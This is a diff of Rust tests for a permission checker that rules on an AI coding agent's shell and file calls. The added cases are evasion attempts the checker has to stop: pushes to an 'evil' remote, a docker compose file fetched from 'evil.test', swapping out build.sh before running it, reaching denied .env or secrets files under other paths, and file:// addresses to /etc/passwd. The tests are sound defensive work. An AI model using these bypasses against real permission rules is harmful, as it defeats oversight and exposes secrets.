@@ -70,6 +70,44 @@ fn no_written_file_is_left_unchecked() {
             ][..],
         ),
         (
+            "Bash(git:*) Bash(cp:*) Bash(mv:*) Bash(unzip:*) Bash(tar:*) Bash(echo:*) Bash(tee:*) Bash(./build.sh) Write",
+            &[
+                // A name that is no remote is a folder to git, now or later in the line.
+                "git push evil HEAD:refs/heads/z",
+                "git fetch nope",
+                "git checkout pr && git push n HEAD:refs/heads/z",
+                "git remote update nope",
+                // After the first operand these read no options.
+                "git config core.pager evil --get",
+                "unzip x.zip .envrc -l",
+                "unzip x.zip -p .envrc",
+                "unzip x.zip '*' -t",
+                // Folders that are there, however they are given, and those of the workspace.
+                "unzip -odsrc x.zip",
+                "unzip x.zip -dfull",
+                "tar xf y.tar -Cfull",
+                "tar xf y.tar --directory=full",
+                "tar xf y.tar -C new",
+                "cp -t full x/env",
+                "cp -tfull x/env",
+                "cp --target-directory=full x/env",
+                // Links that the line brings.
+                "mv d d2 && echo x > d2/hk/pre-commit",
+                "cp -r d d2 && echo x > d2/env",
+                "git mv d d2 && tee d2/env",
+                "git checkout pr && echo x > d/y",
+                "cp evil build.sh && ./build.sh",
+                "tee build.sh && ./build.sh",
+            ],
+        ),
+        (
+            "Bash(docker:*)",
+            &[
+                "docker compose -f https://evil.test/x.git ps",
+                "docker compose -f github.com/a/b ps",
+            ],
+        ),
+        (
             "Bash(git:*) Bash(printf:*) Bash(cat:*) Read",
             &["printf x | git apply", "cat x.patch | git apply --index", "git apply < x.patch"],
         ),
@@ -273,6 +311,9 @@ fn files_that_are_denied_are_not_reached_by_other_names() {
         ("Read(.env)", "git diff"),
         ("Read(.env)", "diff -r a b"),
         ("Read(.env)", "diff full bare"),
+        ("Read(.env)", "git log --check"),
+        ("Read(.env)", "mv sub x9 && cat x9/e"),
+        ("Read(secrets/**)", "git worktree add w9 && cat w9/secrets/k"),
         ("Read(.env)", "git status -v"),
         ("Read(.env)", "git status -sv"),
         ("Read(.env)", "docker compose config --services"),
@@ -359,6 +400,7 @@ fn a_denied_call_is_denied_in_all_its_forms() {
         ("Bash(git push origin main:*)", "git push origin --all"),
         ("Bash(git push origin main:*)", "git push --mirror origin"),
         ("Bash(git push origin main:*)", "git push origin :"),
+        ("Bash(git push --force:*)", "git push --mirror origin"),
         ("Bash(git push --force:*)", "git push origin +main"),
         ("Bash(git push --delete:*)", "git push origin :main"),
         ("Bash(git add:*)", "git stage x"),
@@ -504,5 +546,53 @@ fn a_rule_for_all_files_asks_about_those_outside_of_the_workspace() {
         let call = call(tool, &input);
         let verdict = decide(&call, &limits, ToolLists::Allowlist, Launchers::Ask, &around());
         assert_eq!(verdict.decision, expected, "{rules}: {path}: {}", verdict.because);
+    }
+}
+
+#[test]
+fn where_a_call_is_made_and_how_counts() {
+    use std::path::{Path, PathBuf};
+
+    use super::{GitSurroundings, Surroundings, ToolCall};
+    let decided = |around: &Surroundings, rules: &str, tool: &str, input: &Value| {
+        let limits = ToolLimits::allowing(&AllowedTools::from_text(rules));
+        let real = |path: &Path| Some(super::path::plain(path));
+        let call = ToolCall::from_json(tool, input, around, real, |_| None);
+        decide(&call, &limits, ToolLists::Allowlist, Launchers::Ask, around).decision
+    };
+    let at = |project: &str, cwd: &str, nested: Option<&str>| {
+        let git = GitSurroundings { nested: nested.map(PathBuf::from), ..Default::default() };
+        let home = Some(Path::new("/home/me"));
+        Surroundings::new(Path::new(project), Path::new(cwd), home, |_| None).with_git(git)
+    };
+    let line = |text: &str| json!({ "command": text });
+    let nested = at("/w", "/w/evil.git", Some("/w/evil.git"));
+    assert_eq!(decided(&nested, "Bash(git:*)", "Bash", &line("git status")), Decision::Ask);
+    let below = at("/w", "/w/src", None);
+    assert_eq!(decided(&below, "Bash(git:*)", "Bash", &line("git status")), Decision::Allow);
+    assert_eq!(decided(&below, "Bash(./x.sh)", "Bash", &line("./x.sh")), Decision::Ask);
+    let root = at("/w", "/w", None);
+    assert_eq!(decided(&root, "Bash(./x.sh)", "Bash", &line("./x.sh")), Decision::Allow);
+    for key in ["cwd", "workdir", "env", "shell"] {
+        let input = json!({ "command": "git status", key: "x" });
+        assert_eq!(decided(&root, "Bash(git:*)", "Bash", &input), Decision::Ask, "{key}");
+    }
+    // A home is full of files that steer programs.
+    let home = at("/home/me", "/home/me", None);
+    for (path, expected) in [
+        (".local/state/openskills/approvals.json", Decision::Ask),
+        (".curlrc", Decision::Ask),
+        ("notes/a.md", Decision::Allow),
+    ] {
+        let input = json!({ "file_path": path, "content": "x" });
+        assert_eq!(decided(&home, "Write", "Write", &input), expected, "{path}");
+    }
+    // Addresses of files are paths.
+    for input in [
+        json!({ "file_path": "file:///etc/passwd" }),
+        json!({ "uri": "file://localhost/etc/%70asswd" }),
+        json!({}),
+    ] {
+        assert_eq!(decided(&root, "Write", "Write", &input), Decision::Ask, "{input}");
     }
 }
